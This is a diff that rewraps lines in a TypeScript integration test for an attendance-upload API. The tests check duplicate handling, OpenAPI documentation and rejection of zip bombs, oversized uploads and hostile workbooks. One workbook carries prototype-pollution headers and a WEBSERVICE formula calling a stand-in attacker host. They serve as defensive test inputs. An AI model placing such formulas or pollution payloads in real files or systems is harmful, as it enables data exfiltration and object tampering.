@@ -141,12 +141,19 @@ for (const backend of backendsOf(import.meta.url)) {
       ]);
       expect(m1.map((r) => r.reason)).toEqual(['attendance file, row 3', 'attendance file, row 3', 'attendance file, row 4', 'attendance file, row 4']);
       // The file itself, byte for byte, in one delivery.
-      const d = await h.rt.db.query<{ body: Buffer; headers: Record<string, string> }>(`SELECT body, headers FROM deliveries WHERE source = 'upload' ORDER BY id DESC LIMIT 1`);
+      const d = await h.rt.db.query<{ body: Buffer; headers: Record<string, string> }>(
+        `SELECT body, headers FROM deliveries WHERE source = 'upload' ORDER BY id DESC LIMIT 1`,
+      );
       expect(Buffer.from(d.rows[0]!.body).equals(firstFile)).toBe(true);
       expect(d.rows[0]!.headers).toMatchObject({ role: 'organiser', format: 'xlsx', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
 
       // Outcomes re-derived from the upload (tolerance 30 min, R-ATT-3).
-      const outcomes = await waitForOutcomes(h, keys.organiser, eventId, (byMember) => byMember.get(members[0]!.id)?.status === 'credited' && byMember.get(members[2]!.id)?.absentMinutes === 45);
+      const outcomes = await waitForOutcomes(
+        h,
+        keys.organiser,
+        eventId,
+        (byMember) => byMember.get(members[0]!.id)?.status === 'credited' && byMember.get(members[2]!.id)?.absentMinutes === 45,
+      );
       const byMember = new Map(outcomes.map((o: any) => [o.memberId, o]));
       expect(byMember.get(members[0]!.id)).toMatchObject({ status: 'credited', absentMinutes: 0, credits: 3 });
       expect(byMember.get(members[1]!.id)).toMatchObject({ status: 'credited', absentMinutes: 10, credits: 3 });
@@ -185,9 +192,15 @@ for (const backend of backendsOf(import.meta.url)) {
       const reg = await h.api('POST', `/v1/events/${id2}/registrations`, { key: keys.organiser, body: { registrations: [{ memberId: members[0]!.id }] } });
       expect(reg.body.registered, reg.text).toBe(1);
       const csv = `Codice fiscale;Data evento;Ora di ingresso;Ora di uscita\n${members[0]!.codiceFiscale};${at(0).toFormat('dd/MM/yyyy')};${at(0).toFormat('HH:mm')};${at(180).toFormat('HH:mm')}\n`;
-      const send = (query: string) => h.api('POST', `/v1/events/${id2}/attendance-file${query}`, { key: keys.organiser, raw: csv, headers: { 'content-type': 'text/csv' } });
+      const send = (query: string) =>
+        h.api('POST', `/v1/events/${id2}/attendance-file${query}`, { key: keys.organiser, raw: csv, headers: { 'content-type': 'text/csv' } });
       const sources = async () =>
-        (await h.rt.db.query<{ source: string; n: number }>(`SELECT source, count(*)::int AS n FROM tracking_records WHERE event_id = $1 GROUP BY source ORDER BY source`, [id2])).rows;
+        (
+          await h.rt.db.query<{ source: string; n: number }>(
+            `SELECT source, count(*)::int AS n FROM tracking_records WHERE event_id = $1 GROUP BY source ORDER BY source`,
+            [id2],
+          )
+        ).rows;
 
       // Not `online` or `in-person`: refused before anything is read or stored.
       await refusedCleanly(() => send('?presence=room'), 400, 'invalid-query');
@@ -196,7 +209,9 @@ for (const backend of backendsOf(import.meta.url)) {
       expect(inPerson.status, inPerson.text).toBe(202);
       expect(inPerson.body).toEqual({ accepted: 1, duplicates: 0, empty: 0, rejected: [] });
       expect(await sources()).toEqual([{ source: 'upload:in-person', n: 2 }]);
-      const d = await h.rt.db.query<{ headers: Record<string, string> }>(`SELECT headers FROM deliveries WHERE source = 'upload:in-person' ORDER BY id DESC LIMIT 1`);
+      const d = await h.rt.db.query<{ headers: Record<string, string> }>(
+        `SELECT headers FROM deliveries WHERE source = 'upload:in-person' ORDER BY id DESC LIMIT 1`,
+      );
       expect(d.rows[0]!.headers).toMatchObject({ presence: 'in-person', format: 'csv' });
 
       // The same file with the same presence: a duplicate, nothing stored.
@@ -225,7 +240,11 @@ for (const backend of backendsOf(import.meta.url)) {
       ]);
 
       const doc = await h.api('GET', '/openapi.json');
-      const params = doc.body.paths['/v1/events/{id}/attendance-file']?.post.parameters as Array<{ name: string; in: string; schema: { enum?: string[]; default?: string } }>;
+      const params = doc.body.paths['/v1/events/{id}/attendance-file']?.post.parameters as Array<{
+        name: string;
+        in: string;
+        schema: { enum?: string[]; default?: string };
+      }>;
       expect(params.find((x) => x.name === 'presence')).toMatchObject({ in: 'query', schema: { enum: ['online', 'in-person'], default: 'online' } });
     });
 
@@ -263,7 +282,12 @@ for (const backend of backendsOf(import.meta.url)) {
       expect((await upload(file, XLSX_MEDIA_TYPE, '')).status).toBe(401);
       const json = await upload(file, 'application/json');
       expect([json.status, json.body.code]).toEqual([415, 'unsupported-media-type']);
-      const missing = await upload(await workbook([['Codice fiscale', 'Ora di ingresso'], [members[5]!.codiceFiscale, '14:00']]));
+      const missing = await upload(
+        await workbook([
+          ['Codice fiscale', 'Ora di ingresso'],
+          [members[5]!.codiceFiscale, '14:00'],
+        ]),
+      );
       expect([missing.status, missing.body.code, missing.body.missing]).toEqual([422, 'missing-columns', ['Ora di uscita']]);
       // Documented in the OpenAPI document, both formats.
       const doc = await h.api('GET', '/openapi.json');
@@ -283,7 +307,11 @@ for (const backend of backendsOf(import.meta.url)) {
         const liar = await alterWorkbook(await workbook([HEADER]), (parts) => void parts.set(bomb.name, { ...bomb, declaredSize: 500_000 }));
         await refusedCleanly(() => upload(liar), 413, 'zip-bomb');
         // The register import reads with the same guard.
-        await refusedCleanly(() => h.api('POST', '/v1/members/import', { key: keys.cn, raw: file, headers: { 'content-type': XLSX_MEDIA_TYPE } }), 413, 'zip-bomb');
+        await refusedCleanly(
+          () => h.api('POST', '/v1/members/import', { key: keys.cn, raw: file, headers: { 'content-type': XLSX_MEDIA_TYPE } }),
+          413,
+          'zip-bomb',
+        );
       });
 
       it('a 50 MB file: 413 from its declared length, or while it streams', async () => {
@@ -291,30 +319,41 @@ for (const backend of backendsOf(import.meta.url)) {
         await refusedCleanly(() => upload(fifty), 413, 'file-too-large');
         // Chunked, no Content-Length: generated as it is sent, cut off after 10 MiB.
         let sent = 0;
-        await refusedCleanly(async () => {
-          const body = new ReadableStream<Uint8Array>({
-            pull(c) {
-              if (sent >= 50 * 1024 * 1024) return c.close();
-              sent += 1024 * 1024;
-              c.enqueue(new Uint8Array(1024 * 1024));
-            },
-          });
-          const res = await fetch(`${h.url}/v1/events/${eventId}/attendance-file`, {
-            method: 'POST',
-            headers: { authorization: `Bearer ${keys.organiser}`, 'content-type': 'text/csv' },
-            body,
-            duplex: 'half',
-          } as RequestInit & { duplex: 'half' });
-          const text = await res.text();
-          return { status: res.status, headers: res.headers, body: JSON.parse(text), text };
-        }, 413, 'file-too-large');
+        await refusedCleanly(
+          async () => {
+            const body = new ReadableStream<Uint8Array>({
+              pull(c) {
+                if (sent >= 50 * 1024 * 1024) return c.close();
+                sent += 1024 * 1024;
+                c.enqueue(new Uint8Array(1024 * 1024));
+              },
+            });
+            const res = await fetch(`${h.url}/v1/events/${eventId}/attendance-file`, {
+              method: 'POST',
+              headers: { authorization: `Bearer ${keys.organiser}`, 'content-type': 'text/csv' },
+              body,
+              duplex: 'half',
+            } as RequestInit & { duplex: 'half' });
+            const text = await res.text();
+            return { status: res.status, headers: res.headers, body: JSON.parse(text), text };
+          },
+          413,
+          'file-too-large',
+        );
       });
 
       it('a workbook with formulas and __proto__ / constructor headers: nothing evaluated, nothing polluted', async () => {
         const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();
         const withFormulas = await workbook([
           ['__proto__', 'constructor', 'prototype', 'Codice fiscale', 'Ora di ingresso', 'Ora di uscita'],
-          ['{"polluted":"yes"}', '{"prototype":{"polluted":"yes"}}', 'polluted', members[5]!.codiceFiscale, { formula: 'NOW()', result: 0.6 }, { formula: 'WEBSERVICE("http://evil.example")' }],
+          [
+            '{"polluted":"yes"}',
+            '{"prototype":{"polluted":"yes"}}',
+            'polluted',
+            members[5]!.codiceFiscale,
+            { formula: 'NOW()', result: 0.6 },
+            { formula: 'WEBSERVICE("http://evil.example")' },
+          ],
         ]);
         const res = await refusedCleanly(() => upload(withFormulas), 422, 'formula-not-allowed');
         expect(res.body.cell).toBe('Presenze!E2');
@@ -398,7 +437,14 @@ for (const backend of backendsOf(import.meta.url)) {
         ],
       });
       const m = await h.api('GET', `/v1/members?codiceFiscale=${cfNew}`, { key: keys.cn });
-      expect(m.body).toMatchObject({ surname: "D'Àmico Niccolò", givenName: 'Maria Grazia', province: 'MI', registerNumber: 'X-77', birthDate: '1980-05-17', registrationDate: '2010-02-01' });
+      expect(m.body).toMatchObject({
+        surname: "D'Àmico Niccolò",
+        givenName: 'Maria Grazia',
+        province: 'MI',
+        registerNumber: 'X-77',
+        birthDate: '1980-05-17',
+        registrationDate: '2010-02-01',
+      });
       const n = await h.api('GET', `/v1/members?codiceFiscale=${cfNum}`, { key: keys.cn });
       expect(n.body).toMatchObject({ registerNumber: '5002', birthDate: '1979-05-25', registrationDate: '2010-01-01' });
       // Importing it again changes nothing; a CPO of another province gets its rows refused.
